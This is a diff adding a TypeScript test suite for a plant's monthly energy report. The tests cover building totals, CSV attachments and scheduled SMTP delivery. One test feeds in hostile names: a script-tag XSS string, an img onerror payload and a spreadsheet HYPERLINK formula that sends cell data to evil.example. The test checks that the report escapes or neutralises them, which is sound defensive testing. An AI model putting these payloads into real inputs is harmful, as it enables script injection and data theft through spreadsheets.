@@ -1,0 +1,537 @@
+/**
+ * The monthly energy report as the energy manager and the department head receive it: built
+ * from six weeks of the demo plant's simulated history in a real SQLite store (the second half
+ * of September and all of October 2026, Asia/Shanghai), checked against what the energy
+ * service says for the same month; then mailed through a real SMTP server on 127.0.0.1 at the
+ * configured day and time, once per month, across restarts and an SMTP outage.
+ */
+import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { DateTime } from 'luxon';
+import { pino } from 'pino';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { loadConfig, type PlantConfig } from '../../src/config/index.js';
+import { type Commodity, createEnergy, type EnergyService } from '../../src/energy/index.js';
+import { silentLogger } from '../../src/log/index.js';
+import { PointBus } from '../../src/points/index.js';
+import {
+  buildMonthlyReport,
+  type MonthlyReport,
+  type MonthlyReportSender,
+  previousMonth,
+  startMonthlyReports,
+} from '../../src/reports/monthly.js';
+import { lastBefore, MINUTE, simulatedStore, type TestStore } from '../energy/simulated-store.js';
+import { freePort } from '../helpers/modbus-tcp-device.js';
+import { plantTime } from '../helpers/plant-time.js';
+import { until } from '../helpers/wait.js';
+import { leaves, type MailSink, type MimePart, startMailSink } from './mail.js';
+
+const ZONE = 'Asia/Shanghai';
+const local = (iso: string) => DateTime.fromISO(iso, { zone: ZONE }).toMillis();
+/** The history: from the middle of September to the morning the October report is due. */
+const HISTORY_FROM = local('2026-09-16T00:00');
+const HISTORY_TO = local('2026-11-01T07:00');
+const OCTOBER = { from: local('2026-10-01T00:00'), to: local('2026-11-01T00:00') };
+const SEPTEMBER = { from: local('2026-09-01T00:00'), to: local('2026-10-01T00:00') };
+
+const ATTACHMENTS = [
+  'electricity-daily-by-building',
+  'water-daily-by-building',
+  'peak-demand',
+  'headroom',
+  'intensity',
+  'night-flow',
+  'retrofit-savings',
+];
+
+let config: PlantConfig;
+let data: TestStore;
+let energy: EnergyService;
+let report: MonthlyReport;
+
+beforeAll(async () => {
+  config = loadConfig(resolve('config'));
+  expect(config.energy.timezone).toBe(ZONE);
+  data = await simulatedStore(config, { from: HISTORY_FROM, to: HISTORY_TO, stepMs: 15 * MINUTE });
+  energy = createEnergy({
+    config,
+    store: data.store,
+    bus: new PointBus(),
+    log: silentLogger(),
+    now: () => HISTORY_TO,
+  });
+  report = await buildMonthlyReport(energy, config, '2026-10');
+});
+
+afterAll(async () => {
+  await data?.close();
+});
+
+// --- reading the report back -------------------------------------------------------------
+
+const unescapeHtml = (text: string) =>
+  text
+    .replace(/&lt;/g, '<')
+    .replace(/&gt;/g, '>')
+    .replace(/&quot;/g, '"')
+    .replace(/&#39;/g, "'")
+    .replace(/&amp;/g, '&');
+
+interface HtmlTable {
+  head: string[];
+  rows: string[][];
+}
+
+/** The tables of the section whose heading starts with `heading`. */
+function sectionTables(html: string, heading: string): HtmlTable[] {
+  const start = html.indexOf(`<h2>${heading}`);
+  if (start < 0) throw new Error(`no section "${heading}" in the report`);
+  const next = html.indexOf('<h2>', start + 4);
+  const section = html.slice(start, next < 0 ? undefined : next);
+  const cells = (row: string, tag: 'th' | 'td') =>
+    [...row.matchAll(new RegExp(`<${tag}>(.*?)</${tag}>`, 'gs'))].map((m) => unescapeHtml(m[1] ?? ''));
+  return [...section.matchAll(/<table>(.*?)<\/table>/gs)].map((t) => {
+    const [head = '', body = ''] = (t[1] ?? '').split('</thead>');
+    return {
+      head: cells(head, 'th'),
+      rows: [...body.matchAll(/<tr>(.*?)<\/tr>/gs)].map((r) => cells(r[1] ?? '', 'td')),
+    };
+  });
+}
+
+/** "1,234,567": whole units with thousands separators, as the report prints kWh and m³. */
+const whole = (value: number) => String(Math.round(value)).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
+
+/** RFC 4180 CSV: quoted fields may hold commas, quotes ("") and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"' && field === '') quoted = true;
+    else if (c === ',') {
+      row.push(field);
+      field = '';
+    } else if (c === '\n' || c === '\r') {
+      if (c === '\r' && text[i + 1] === '\n') i++;
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+    } else field += c;
+  }
+  if (quoted) throw new Error('CSV ends inside a quoted field');
+  if (field !== '' || row.length > 0) rows.push([...row, field]);
+  return rows;
+}
+
+/** A CSV attachment as a spreadsheet reads it: the BOM, then a header and rows of the same width. */
+function readCsv(content: string): { header: string[]; rows: string[][] } {
+  expect(content.startsWith('\uFEFF'), 'UTF-8 BOM for Excel').toBe(true);
+  const [header, ...rows] = parseCsv(content.slice(1));
+  if (!header) throw new Error('CSV without a header row');
+  for (const row of rows) expect(row).toHaveLength(header.length);
+  return { header, rows };
+}
+
+const attachment = (r: MonthlyReport, name: string) => {
+  const found = r.attachments.find((a) => a.filename === `${name}-${r.month}.csv`);
+  if (!found) throw new Error(`no attachment ${name}-${r.month}.csv`);
+  return readCsv(found.content);
+};
+
+/** Buildings that have a main meter of the commodity, by name. */
+const mainBuildings = (commodity: Commodity) => [
+  ...new Set(energy.meters.filter((m) => m.commodity === commodity && m.main).map((m) => m.buildingName)),
+];
+
+// --- the report ----------------------------------------------------------------------------
+
+describe('buildMonthlyReport over six weeks of simulated history', () => {
+  it.each([
+    ['electricity', 'Electricity by building'],
+    ['water', 'Water by building'],
+  ] as const)(
+    'lists every building with a %s main meter, with the month as energy.consumption totals it',
+    async (commodity, heading) => {
+      const query = { commodity, resolution: 'day', groupBy: 'building' } as const;
+      const october = await energy.consumption({ ...query, ...OCTOBER });
+      const september = await energy.consumption({ ...query, ...SEPTEMBER });
+      const [table] = sectionTables(report.html, heading);
+      if (!table) throw new Error(`no table under ${heading}`);
+
+      expect(table.head).toEqual(['building', '2026-10', 'month before', 'change', 'notes']);
+      expect(table.rows.map((r) => r[0]).sort()).toEqual(mainBuildings(commodity).sort());
+      expect(table.rows).toHaveLength(october.rows.length);
+      for (const row of october.rows) {
+        const earlier = september.rows.find((r) => r.key === row.key);
+        if (!earlier) throw new Error(`${row.name} has no September row`);
+        // A hospital building uses something every month: a 0 here would hide a broken meter.
+        expect(row.total).toBeGreaterThan(0);
+        expect(earlier.total).toBeGreaterThan(0);
+        const printed = table.rows.find((r) => r[0] === row.name);
+        expect(printed?.[1], `${row.name}, October`).toBe(whole(row.total));
+        expect(printed?.[2], `${row.name}, September`).toBe(whole(earlier.total));
+        expect(printed?.[3], `${row.name}, change`).toBe(
+          `${(((row.total - earlier.total) / earlier.total) * 100).toFixed(1)} %`,
+        );
+      }
+    },
+  );
+
+  it("prints the incomers' October as what their counters rose by over the month", async () => {
+    const [table] = sectionTables(report.html, 'Electricity by building');
+    for (const [device, building] of [
+      ['dr1-incomer', 'Inpatient Building'],
+      ['dr2-incomer', 'Outpatient & Medical Technology Building'],
+    ] as const) {
+      const point = `${device}.energy_kwh`;
+      // The last reading of September and of October (no rollover or reset in six weeks).
+      const rise =
+        (await lastBefore(data.store, point, OCTOBER.to)) -
+        (await lastBefore(data.store, point, OCTOBER.from));
+      const printed = Number(table?.rows.find((r) => r[0] === building)?.[1]?.replace(/,/g, ''));
+      // Within 0.1 %: the history is read every 15 minutes, so the month's edges are only
+      // known to the reading before and after them.
+      expect(Math.abs(printed - rise) / rise, building).toBeLessThan(0.001);
+    }
+  });
+
+  it('says when the month before is incomplete, rather than compare October with half a September', () => {
+    // The history starts on 16 September: September's figure is half a month's.
+    for (const heading of ['Electricity by building', 'Water by building']) {
+      const [table] = sectionTables(report.html, heading);
+      for (const row of table?.rows ?? []) {
+        // October is complete: nothing to note about it.
+        expect(row[4], `${row[0]}: notes`).toMatch(/month before/i);
+        expect(row[4], `${row[0]}: notes`).toMatch(/\b15 gap/);
+        expect(row[4], `${row[0]}: notes`).not.toMatch(/^\d+ gap/);
+      }
+    }
+  });
+
+  it('attaches the seven tables as CSV named with the month, each readable by a spreadsheet', () => {
+    expect(report.attachments.map((a) => a.filename)).toEqual(ATTACHMENTS.map((n) => `${n}-2026-10.csv`));
+    for (const name of ATTACHMENTS) {
+      const { header, rows } = attachment(report, name);
+      expect(header.length, name).toBeGreaterThan(1);
+      expect(rows.length, name).toBeGreaterThan(0);
+    }
+  });
+
+  it('has one electricity row per day of October, adding up to the month in the HTML', () => {
+    const { header, rows } = attachment(report, 'electricity-daily-by-building');
+    const buildings = mainBuildings('electricity');
+    expect(header).toEqual([
+      'period',
+      'start',
+      ...buildings.map((b) => `${b} (kWh)`),
+      'total (kWh)',
+      'notes',
+    ]);
+    expect(rows.map((r) => r[0])).toEqual(
+      Array.from({ length: 31 }, (_, i) => `2026-10-${String(i + 1).padStart(2, '0')}`),
+    );
+    expect(rows.map((r) => r[1])).toEqual(rows.map((r) => `${r[0]} 00:00`));
+    const [table] = sectionTables(report.html, 'Electricity by building');
+    buildings.forEach((building, column) => {
+      const days = rows.map((r) => Number(r[2 + column]));
+      for (const day of days) expect(day).toBeGreaterThan(0);
+      const month = days.reduce((a, b) => a + b, 0);
+      const printed = Number(table?.rows.find((r) => r[0] === building)?.[1]?.replace(/,/g, ''));
+      // Days are rounded to 0.001 kWh in the CSV: 31 of them are within 0.1 kWh of the month.
+      expect(Math.abs(month - printed), building).toBeLessThanOrEqual(0.6);
+    });
+    // Each day's total is the sum of its buildings.
+    for (const row of rows) {
+      const sum = buildings.reduce((s, _, i) => s + Number(row[2 + i]), 0);
+      expect(Number(row[2 + buildings.length])).toBeCloseTo(sum, 2);
+    }
+  });
+
+  it('never says readings "cover 100 %" of a day they do not fully cover', () => {
+    for (const name of ['electricity-daily-by-building', 'water-daily-by-building']) {
+      for (const row of attachment(report, name).rows) {
+        const notes = row.at(-1) ?? '';
+        for (const m of notes.matchAll(/readings cover ([\d.]+) %/g))
+          expect(Number(m[1]), `${name} ${row[0]}: ${notes}`).toBeLessThan(100);
+      }
+    }
+  });
+
+  it('has the other tables row for row: incomers, rooms, buildings, meters by night, retrofits', () => {
+    const incomers = energy.meters.filter((m) => m.commodity === 'electricity' && m.main).map((m) => m.name);
+    expect(attachment(report, 'peak-demand').rows.map((r) => [r[0], r[2]])).toEqual(
+      incomers.map((name) => [name, '2026-10']),
+    );
+    expect(attachment(report, 'headroom').rows.map((r) => r[0])).toEqual([
+      'Distribution Room 1 (LV)',
+      'Distribution Room 2 (LV)',
+    ]);
+    const buildings = config.sites.flatMap((s) => s.buildings.map((b) => b.name));
+    expect(attachment(report, 'intensity').rows.map((r) => r[1])).toEqual([
+      ...buildings,
+      ...config.sites.map((s) => s.name),
+    ]);
+    const watched = config.energy.leaks.meters ?? [];
+    expect(watched.length).toBeGreaterThan(0);
+    const nights = attachment(report, 'night-flow').rows;
+    expect(new Set(nights.map((r) => r[0]))).toEqual(new Set(watched));
+    // The last 14 nights of each watched meter, up to the morning the report is built.
+    expect(nights).toHaveLength(watched.length * 14);
+    expect(nights.filter((r) => r[0] === watched[0]).at(-1)?.[1]).toBe('2026-10-31');
+    expect(attachment(report, 'retrofit-savings').rows.map((r) => r[0])).toEqual(
+      config.energy.retrofits.map((r) => r.name),
+    );
+  });
+
+  it('escapes hostile building and site names in the HTML and keeps them inert in the CSV', async () => {
+    const script = '<script>alert("pwned")</script>';
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Outpatient")';
+    const hostile: PlantConfig = {
+      ...config,
+      sites: config.sites.map((s) => ({
+        ...s,
+        name: `${s.name} <img src=x onerror=alert(1)>`,
+        buildings: s.buildings.map((b) =>
+          b.id === 'inpatient' ? { ...b, name: script } : b.id === 'outpatient' ? { ...b, name: formula } : b,
+        ),
+      })),
+    };
+    const hostileEnergy = createEnergy({
+      config: hostile,
+      store: data.store,
+      bus: new PointBus(),
+      log: silentLogger(),
+      now: () => HISTORY_TO,
+    });
+    const built = await buildMonthlyReport(hostileEnergy, hostile, '2026-10');
+
+    expect(built.html).not.toMatch(/<script/i);
+    expect(built.html).not.toMatch(/<img/i);
+    expect(built.html).toContain('&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;');
+    // Still named, as written, where the manager reads it.
+    const [electricity] = sectionTables(built.html, 'Electricity by building');
+    expect(electricity?.rows.map((r) => r[0])).toEqual([script, formula]);
+
+    // A spreadsheet must not run a building's name as a formula, in a header or in a cell.
+    for (const a of built.attachments) {
+      const { header, rows } = readCsv(a.content);
+      for (const cell of [...header, ...rows.flat()])
+        if (/^[=+\-@]/.test(cell)) expect(cell, `${a.filename}: ${cell}`).toMatch(/^-?\d/);
+    }
+    const { header } = attachment(built, 'electricity-daily-by-building');
+    expect(header).toContain(`'${formula} (kWh)`);
+  });
+});
+
+// --- mailing it --------------------------------------------------------------------------
+
+interface LogLine {
+  level: number;
+  msg: string;
+  month?: string;
+  component?: string;
+}
+const ERROR = 50;
+
+/** The demo config with its e-mail channel on the test's SMTP port. */
+const mailingTo = (port: number): PlantConfig => {
+  const email = config.notify.channels.email;
+  if (!email) throw new Error('the demo config has no e-mail channel');
+  return {
+    ...config,
+    notify: {
+      ...config.notify,
+      channels: { ...config.notify.channels, email: { ...email, host: '127.0.0.1', port, timeout: 2000 } },
+    },
+  };
+};
+
+const liuFang = () => {
+  const address = config.notify.people.find((p) => p.id === 'liu-fang')?.email;
+  if (!address) throw new Error('liu-fang has no e-mail address in notify.yaml');
+  return address;
+};
+
+let stateDir: string;
+const senders: MonthlyReportSender[] = [];
+const sinks: MailSink[] = [];
+
+afterEach(async () => {
+  for (const s of senders.splice(0)) s.stop();
+  await Promise.all(sinks.splice(0).map((s) => s.close()));
+  if (stateDir) rmSync(stateDir, { recursive: true, force: true });
+});
+
+/**
+ * A sender on an injected clock. `looks()` counts its looks at the clock (two per check);
+ * `reports()` the reports it has started to build (each asks for four consumption tables),
+ * which shows a send the moment it starts, long before a mail could arrive.
+ */
+function startSender(port: number, clock: { now: number }, statePath: string) {
+  const logs: LogLine[] = [];
+  const log = pino({ level: 'debug' }, { write: (line: string) => logs.push(JSON.parse(line) as LogLine) });
+  let looks = 0;
+  let tables = 0;
+  const counting: EnergyService = {
+    ...energy,
+    consumption: (query) => {
+      tables++;
+      return energy.consumption(query);
+    },
+  };
+  const sender = startMonthlyReports({
+    energy: counting,
+    config: mailingTo(port),
+    log,
+    statePath,
+    now: () => {
+      looks++;
+      return clock.now;
+    },
+    checkEveryMs: 20,
+  });
+  senders.push(sender);
+  return { sender, logs, looks: () => looks, reports: () => tables / 4 };
+}
+
+/** Lets the sender check the clock at least `n` more times. */
+const afterChecks = (looks: () => number, n: number) => {
+  const target = looks() + 2 * n;
+  return until(`${n} more checks`, () => looks() >= target, 5000, 5);
+};
+
+const mailSink = async (port?: number) => {
+  const sink = await startMailSink(port);
+  sinks.push(sink);
+  return sink;
+};
+
+const sentMonths = (statePath: string): unknown =>
+  existsSync(statePath) ? JSON.parse(readFileSync(statePath, 'utf8')) : [];
+
+const crlf = (text: string) => text.replace(/\r\n/g, '\n');
+
+function expectReportMail(mail: MimePart, expected: MonthlyReport) {
+  expect(mail.headers.get('subject')).toBe(expected.subject);
+  expect(mail.headers.get('subject')).toContain(expected.month);
+  expect(mail.headers.get('to')).toBe(liuFang());
+  expect(mail.headers.get('from')).toBe(config.notify.channels.email?.from);
+  const parts = leaves(mail);
+  const html = parts.filter((p) => p.type === 'text/html' && !p.filename);
+  expect(html).toHaveLength(1);
+  expect(crlf(html[0]?.text ?? '')).toBe(crlf(expected.html));
+  const files = parts.filter((p) => p.filename);
+  expect(files.map((p) => [p.filename, p.type])).toEqual(
+    expected.attachments.map((a) => [a.filename, 'text/csv']),
+  );
+  files.forEach((file, i) => {
+    expect(crlf(file.text), file.filename).toBe(crlf(expected.attachments[i]?.content ?? ''));
+  });
+}
+
+describe('startMonthlyReports', () => {
+  it('mails October at 07:00 on 1 November (plant time) to liu-fang, once, across a restart', async () => {
+    stateDir = mkdtempSync(join(tmpdir(), 'plantwatch-monthly-'));
+    const statePath = join(stateDir, 'data', 'monthly-reports-sent.json');
+    const smtp = await mailSink();
+    const clock = { now: plantTime(config, '2026-11-01T06:59') };
+    const first = startSender(smtp.port, clock, statePath);
+
+    await afterChecks(first.looks, 5);
+    expect(first.reports()).toBe(0);
+    expect(smtp.received).toHaveLength(0);
+    expect(existsSync(statePath)).toBe(false);
+
+    // 07:00 in Shanghai is still 31 October in UTC: the zone, not the machine, decides.
+    clock.now = plantTime(config, '2026-11-01T07:00');
+    await until('the October report', () => smtp.received.length > 0);
+    await until('the sent month remembered', () =>
+      first.logs.some((l) => l.msg === 'monthly energy report sent'),
+    );
+    const [mail] = smtp.received;
+    expect(mail?.envelopeTo).toEqual([liuFang()]);
+    expectReportMail(mail?.mail as MimePart, report);
+    expect(sentMonths(statePath)).toEqual(['2026-10']);
+
+    // Later checks, later that day and the day after: already sent.
+    await afterChecks(first.looks, 5);
+    clock.now = plantTime(config, '2026-11-02T09:00');
+    await afterChecks(first.looks, 5);
+    expect(first.reports()).toBe(1);
+    expect(smtp.received).toHaveLength(1);
+    first.sender.stop();
+
+    // A restart reads the months sent from the state file.
+    clock.now = plantTime(config, '2026-11-01T07:30');
+    const second = startSender(smtp.port, clock, statePath);
+    await afterChecks(second.looks, 10);
+    expect(second.reports()).toBe(0);
+    expect(smtp.received).toHaveLength(1);
+    expect(second.logs.filter((l) => l.level >= ERROR)).toEqual([]);
+  });
+
+  it('logs a send that fails while the SMTP server is down and retries at the next check', async () => {
+    stateDir = mkdtempSync(join(tmpdir(), 'plantwatch-monthly-'));
+    const statePath = join(stateDir, 'monthly-reports-sent.json');
+    const port = await freePort(); // nothing listens here yet
+    const clock = { now: plantTime(config, '2026-11-01T07:05') };
+    const { logs, looks, reports } = startSender(port, clock, statePath);
+    const failures = () =>
+      logs.filter((l) => l.level === ERROR && l.month === '2026-10' && /not sent/.test(l.msg));
+
+    await until('a second failed attempt', () => failures().length >= 2, 10_000);
+    expect(failures()[0]?.component).toBe('monthly-report');
+    expect(existsSync(statePath)).toBe(false);
+
+    const smtp = await mailSink(port);
+    await until('the October report once the server is up', () => smtp.received.length > 0, 10_000);
+    await until('the sent month remembered', () => logs.some((l) => l.msg === 'monthly energy report sent'));
+    expect(smtp.received[0]?.envelopeTo).toEqual([liuFang()]);
+    expect(smtp.received[0]?.mail.headers.get('subject')).toContain('2026-10');
+    expect(sentMonths(statePath)).toEqual(['2026-10']);
+    const built = reports();
+    await afterChecks(looks, 5);
+    expect(reports()).toBe(built);
+    expect(smtp.received).toHaveLength(1);
+  });
+
+  it("sends a month on demand (send('2026-09')), before the month's own report is due", async () => {
+    stateDir = mkdtempSync(join(tmpdir(), 'plantwatch-monthly-'));
+    const statePath = join(stateDir, 'monthly-reports-sent.json');
+    const smtp = await mailSink();
+    const clock = { now: plantTime(config, '2026-11-01T06:00') };
+    const { sender } = startSender(smtp.port, clock, statePath);
+
+    const sent = await sender.send('2026-09');
+    expect(sent.month).toBe('2026-09');
+    expect(smtp.received).toHaveLength(1);
+    expectReportMail(smtp.received[0]?.mail as MimePart, sent);
+    expect(sent.attachments.map((a) => a.filename)).toEqual(ATTACHMENTS.map((n) => `${n}-2026-09.csv`));
+    expect(attachment(sent, 'electricity-daily-by-building').rows).toHaveLength(30);
+    expect(sentMonths(statePath)).toEqual(['2026-09']);
+  });
+});
+
+describe('previousMonth', () => {
+  it.each([
+    // 16:30 UTC on 31 December: in UTC the month before would be November.
+    ['2027-01-01T00:30', '2026-12'],
+    ['2026-11-01T00:30', '2026-10'],
+    ['2026-10-31T23:59', '2026-09'],
+    ['2026-03-31T23:59', '2026-02'],
+  ])('at %s in Shanghai is %s', (at, month) => {
+    expect(previousMonth(plantTime(config, at), ZONE)).toBe(month);
+  });
+});
